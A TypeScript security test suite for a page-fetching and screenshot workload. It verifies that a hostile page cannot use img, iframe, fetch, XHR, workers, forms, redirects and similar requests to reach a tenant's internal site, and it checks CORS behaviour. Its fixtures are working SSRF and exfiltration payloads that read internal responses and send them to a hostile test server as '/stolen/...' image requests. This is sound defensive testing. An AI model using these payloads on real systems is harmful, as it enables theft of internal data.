// A page of a stranger that a workload reads: it tries to reach what the tenant reaches, and to read it.
import { type Browser, chromium } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { FetchedPage, ScreenshotProblems } from "../../agents/core/documents.ts";
import { decodePage, type Fetched } from "../../agents/net/fetch.ts";
import { createGuard } from "../../agents/net/guard.ts";
import { redirectRule } from "../../agents/net/redirects.ts";
import { createVisitor } from "../../agents/net/site.ts";
import { draw } from "../../agents/page/draw.ts";
import { listen, type Running, startChromium } from "../integration/agents/services.ts";
import { type StepEnvironment, startStepEnvironment } from "../integration/agents/step-environment.ts";

/** By kind of request: what makes one to `to`, and gives `report` what it can read of the answer. */
const kinds: Record<string, (to: string, report: string) => string> = {
  img: (to) => `<img src="${to}">`,
  style: (to) => `<link rel="stylesheet" href="${to}">`,
  font: (to) => `<style>@font-face { font-family: x; src: url(${to}) }</style><p style="font-family: x">x`,
  iframe: (to) => `<iframe src="${to}"></iframe>`,
  object: (to) => `<object data="${to}"></object>`,
  "image of a style": (to) => `<p style="background: url(${to})">x`,
  script: (to) => `<script src="${to}"></script>`,
  fetch: (to, report) => `<script>fetch("${to}").then((answer) => answer.text()).then(${report})</script>`,
  "fetch without CORS": (to) => `<script>fetch("${to}", { mode: "no-cors" })</script>`,
  XHR: (to, report) => `<script>{ const x = new XMLHttpRequest(); x.open("GET", "${to}");
    x.onload = () => (${report})(x.responseText); x.send() }</script>`,
  EventSource: (to) => `<script>new EventSource("${to}")</script>`,
  "import()": (to) => `<script>import("${to}").catch(() => {})</script>`,
  "fetch of a worker": (to, report) => `<script>{
    const source = 'fetch("${to}").then((answer) => answer.text()).then(postMessage)';
    new Worker(URL.createObjectURL(new Blob([source]))).onmessage = ({ data }) => (${report})(data) }</script>`,
  "form in a frame": (to) => `<iframe name="in"></iframe><form target="in" action="${to}"></form>
    <script>document.forms[0].submit()</script>`,
  "frame that moves on": (to) => `<iframe srcdoc='<script>location.href = "${to}"</script>'></iframe>`,
};
/** What is never sent, wherever to. */
const unsent: typeof kinds = {
  beacon: (to) => `<script>navigator.sendBeacon("${to}", "x")</script>`,
  prerender: (to) => `<script type="speculationrules">{"prerender": [{"urls": ["${to}"]}]}</script>`,
  // The last: its page is left for the answer.
  "form of the page": (to) => `<form id="own" method="post" action="${to}"></form>
    <script>setTimeout(() => document.getElementById("own").submit(), 1000)</script>`,
};
const readers = ["fetch", "XHR", "fetch of a worker"];

describe("with a tenant's internal site among its allowed ones", () => {
  const all = Object.entries({ ...kinds, ...unsent });
  let environment: StepEnvironment;
  let hostile: Running & { port: number };
  let internal: Awaited<ReturnType<typeof listen>>;
  const internalRequests: string[] = [];
  const hostileRequests: string[] = [];
  let problems: ScreenshotProblems;

  /** One page that asks in every way. The style sheet holds it up, so that what its scripts ask for has the time to arrive. */
  function page(variant: string): string {
    const target = { attack: `${internal.url}/`, twin: `${hostile.url}/own/`, through: `${hostile.url}/redirect/` }[
      variant
    ];
    const ways = all.map(([, way], n) =>
      way(`${target}${n}`, `(text) => { new Image().src = "/stolen/${variant}/${n}?" + encodeURIComponent(text) }`),
    );
    return `<!doctype html><body>${ways.join("\n")}<link rel="stylesheet" href="/slow/${variant}"></body>`;
  }

  beforeAll(async () => {
    // Only the whole browser asks in some of these ways at all: it fetches ahead.
    environment = await startStepEnvironment({ program: "chromium" });
    internal = await listen((request, response) => {
      internalRequests.push(request.url ?? "");
      response.writeHead(200, { "content-type": "text/plain" }).end("internal figures");
    });
    hostile = await listen((request, response) => {
      const url = request.url ?? "";
      hostileRequests.push(url);
      const send = (type: string, text: string) => response.writeHead(200, { "content-type": type }).end(text);
      if (url.startsWith("/slow/")) return setTimeout(() => send("text/css", ""), 2_000);
      if (url.startsWith("/redirect/")) return response.writeHead(302, { location: internal.url + url }).end();
      if (url.startsWith("/own/")) return send("text/plain", "own figures");
      if (/^\/(attack|twin|through)$/.test(url)) return send("text/html", page(url.slice(1)));
      return response.writeHead(404).end();
    });
    for (const variant of ["attack", "twin", "through"]) await shoot(variant, variant, { PAGE_SCRIPTS: "true" });
    problems = environment.json<ScreenshotProblems>("attack", "screenshots/problems.json");
  });
  afterAll(async () => {
    await Promise.all([environment[Symbol.asyncDispose](), hostile.stop(), internal.stop()]);
  });

  async function shoot(job: string, path: string, more: Record<string, string> = {}) {
    const env = environment.env(job, {
      TARGET_URLS: JSON.stringify([`${hostile.url}/${path}`]),
      ALLOWED_HOSTS: `127.0.0.1:${hostile.port},127.0.0.1:${internal.port}`,
      ...more,
    });
    for (const step of ["scrape", "screenshot"] as const) {
      const run = await environment.run(step, env, { drawLimits: { loadMs: 6_000 } });
      if (run.code !== 0) throw new Error(run.output);
    }
  }

  test.each(all.map(([kind], n) => [kind, n] as const))(
    "a page of another host doesn't get there by %s, nor by a redirect of its own",
    (_, n) => {
      expect(internalRequests.filter((path) => path.endsWith(`/${n}`))).toEqual([]);
      expect(hostileRequests.filter((path) => path.startsWith(`/stolen/attack/${n}?`))).toEqual([]);
      expect(hostileRequests.filter((path) => path.startsWith(`/stolen/through/${n}?`))).toEqual([]);
    },
  );

  test.each(Object.keys(kinds).map((kind, n) => [kind, n] as const))("its own host it asks by %s", (kind, n) => {
    expect(hostileRequests).toContain(`/own/${n}`);
    if (readers.includes(kind)) expect(hostileRequests).toContain(`/stolen/twin/${n}?own%20figures`);
  });

  test("who reads the report is told what was refused, and why", () => {
    expect(problems[0]).toBe(
      `what the page asked of 127.0.0.1:${internal.port} was not loaded: a page may load from its own host and from public ones only`,
    );
  });

  test("no script of a page runs unless the workload asks for it", async () => {
    hostileRequests.length = 0;
    await shoot("still", "twin");
    const numberOf = (kindName: string) => all.findIndex(([kind]) => kind === kindName);
    expect(hostileRequests).toContain(`/own/${numberOf("img")}`);
    for (const kind of ["script", "fetch", "form in a frame"])
      expect(hostileRequests).not.toContain(`/own/${numberOf(kind)}`);
  });
});

describe("a redirect of a site into the tenant's internal one", () => {
  let stranger: Awaited<ReturnType<typeof listen>>;
  let internal: Awaited<ReturnType<typeof listen>>;
  const internalRequests: string[] = [];
  const page = "<!doctype html><title>Figures</title><p>internal figures";

  beforeAll(async () => {
    internal = await listen((request, response) => {
      if (request.url !== "/robots.txt") internalRequests.push(request.url ?? "");
      response.writeHead(request.url === "/robots.txt" ? 404 : 200, { "content-type": "text/html" }).end(page);
    });
    stranger = await listen((request, response) => {
      const to = `${internal.url}${request.url}`;
      if (request.url === "/robots.txt") return response.writeHead(404).end();
      if (request.url === "/status") return response.writeHead(302, { location: to }).end();
      if (request.url === "/header")
        return response.writeHead(200, { refresh: `0;url=${to}`, "content-type": "text/html" }).end("x");
      response.writeHead(200, { "content-type": "text/html" }).end(`<meta http-equiv="refresh" content="0;url=${to}">`);
    });
  });
  afterAll(async () => {
    await Promise.all([stranger.stop(), internal.stop()]);
  });

  /** What is read of the stranger's path; the guard lets both through, because both are on loopback here. */
  async function visit(path: string, { allowed = [internal], targets = [] as string[] } = {}): Promise<string> {
    internalRequests.length = 0;
    const guard = createGuard([stranger, internal].map(({ port }) => `127.0.0.1:${port}`));
    const hosts = allowed.map(({ port }) => `127.0.0.1:${port}`);
    const mayRedirect = redirectRule(guard, hosts, [stranger.url, ...targets]);
    try {
      return decodePage(await createVisitor(guard, { mayRedirect, pauseMs: 0 })(stranger.url + path));
    } finally {
      await guard.dispatcher.close();
    }
  }

  test.each(["/status", "/header", "/meta"])("is not followed (%s)", async (path) => {
    await expect(visit(path)).rejects.toThrow(
      `redirects to 127.0.0.1:${internal.port}, an internal site of the tenant, which other sites may not do: add it to the target URLs`,
    );
    expect(internalRequests).toEqual([]);
  });

  test("is followed where that site is a target of the workload itself", async () =>
    expect(await visit("/status", { targets: [`${internal.url}/`] })).toContain("internal figures"));

  test("is followed from one internal site to another", async () =>
    expect(await visit("/meta", { allowed: [stranger, internal] })).toContain("internal figures"));
});

describe("with the browser's own checks between origins", () => {
  let chromiumProcess: Running;
  let browser: Browser;
  beforeAll(async () => {
    chromiumProcess = await startChromium();
    browser = await chromium.connectOverCDP(chromiumProcess.url);
  });
  afterAll(async () => {
    await browser.close();
    await chromiumProcess.stop();
  });

  const pageOrigin = "https://page.example";
  const otherOrigin = "https://other.example";

  /** What a page's script reports after it has read a URL that answers so. */
  async function readByScript(
    url: string,
    answer: Partial<Fetched>,
  ): Promise<{ reported: string[]; origins: unknown[] }> {
    const reported: string[] = [];
    const origins: unknown[] = [];
    const html = `<script>const say = (text) => { new Image().src = "/report?" + text };
      fetch("${url}").then((answer) => answer.text()).then(say, () => say("refused"))</script><link rel="stylesheet" href="/slow">`;
    const page = { ...secretAt(`${pageOrigin}/`), html } as unknown as FetchedPage;
    await draw(
      async () => browser,
      { ...page, finalUrl: `${pageOrigin}/`, contentType: "text/html" },
      {
        scripts: true,
        resources: {
          get: async ({ url: requested, origin }) => {
            if (requested.includes("/report?")) reported.push(requested.split("?")[1] ?? "");
            if (requested === `${pageOrigin}/slow`) await new Promise((resolve) => setTimeout(resolve, 700));
            if (requested !== url) return secretAt(requested);
            origins.push(origin);
            return { ...secretAt(requested), ...answer };
          },
        },
      },
    );
    return { reported, origins };
  }
  const secretAt = (url: string): Fetched => ({
    url,
    status: 200,
    mediaType: "text/plain",
    charset: undefined,
    policy: {},
    body: Buffer.from("secret"),
    redirects: [],
  });
  const allowing = (origin: string) => ({ policy: { "access-control-allow-origin": origin } });
  const redirected = { url: `${otherOrigin}/x`, redirects: [`${pageOrigin}/x`] };

  test.each([
    ["another origin's answer that allows nobody", `${otherOrigin}/x`, {}],
    ["another origin's answer that allows a third one", `${otherOrigin}/x`, allowing("https://third.example")],
    ["another origin's answer that allows no origin", `${otherOrigin}/x`, allowing("null")],
    ["what its own host redirects to, where that allows nobody", `${pageOrigin}/x`, redirected],
  ])("a script doesn't read %s", async (_, url, answer) => {
    expect((await readByScript(url, answer)).reported).toEqual(["refused"]);
  });

  test.each([
    ["its own origin's answer", `${pageOrigin}/x`, {}],
    ["another origin's answer that allows everybody", `${otherOrigin}/x`, allowing("*")],
    ["another origin's answer that allows its origin", `${otherOrigin}/x`, allowing(pageOrigin)],
    [
      "what its own host redirects to, where that allows everybody",
      `${pageOrigin}/x`,
      { ...redirected, ...allowing("*") },
    ],
  ])("a script reads %s", async (_, url, answer) => {
    expect((await readByScript(url, answer)).reported).toEqual(["secret"]);
  });

  test("another origin is asked with the page's origin, as a browser says it", async () => {
    expect((await readByScript(`${otherOrigin}/x`, allowing("*"))).origins).toEqual([pageOrigin]);
  });
});
